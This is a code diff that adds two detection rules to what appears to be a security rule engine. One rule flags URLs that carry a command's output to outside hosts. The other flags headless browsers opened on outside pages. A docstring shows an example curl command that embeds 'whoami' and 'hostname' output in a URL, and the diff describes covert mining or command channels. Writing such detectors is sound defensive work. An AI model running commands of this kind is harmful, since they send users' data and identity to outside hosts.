@@ -35,7 +35,9 @@ from collector.rules.downloads import downloaded_program
 from collector.rules.payload import parse_spec, proxy_target
 from collector.rules.regex import RegexError, compile_regex, search
 from collector.rules.remotes import (
+    command_output_url_hosts,
     foreign_host,
+    headless_pages,
     package_sources,
     proxy_hosts,
     staged_program_endpoints,
@@ -310,6 +312,22 @@ def _staged_endpoint_host_not_in(value, _rule, _res):
     outside these zones and not inside the site as an endpoint (a URL's host, ``host:port``, the value of a
     server-ish option: ``-server``, ``--c2``, ``--relay``): a brought-in client told whom to reach."""
     return _named_host_outside(value, staged_program_endpoints)
+
+
+@key("url_output_host_not_in", ("exec",), _zones)
+def _url_output_host_not_in(value, _rule, _res):
+    """A URL to a named host outside these zones and not inside the site that carries a command's output
+    (``curl "https://h/?d=$(whoami)@$(hostname)"``, a browser or any program handed such an address): whatever
+    the command read - a name, a key, the environment - leaves in the address itself."""
+    return _named_host_outside(value, command_output_url_hosts)
+
+
+@key("headless_page_host_not_in", ("exec",), _zones)
+def _headless_page_host_not_in(value, _rule, _res):
+    """A browser run without a window (``chromium --headless``, ``firefox -headless``) pointed at a page on a named
+    host outside these zones and not inside the site: a page that mines in the browser or a channel a script
+    drives, where no curl or wget rule looks."""
+    return _named_host_outside(value, headless_pages)
 
 
 @key("proxy_host_not_in", ("exec",), _zones)
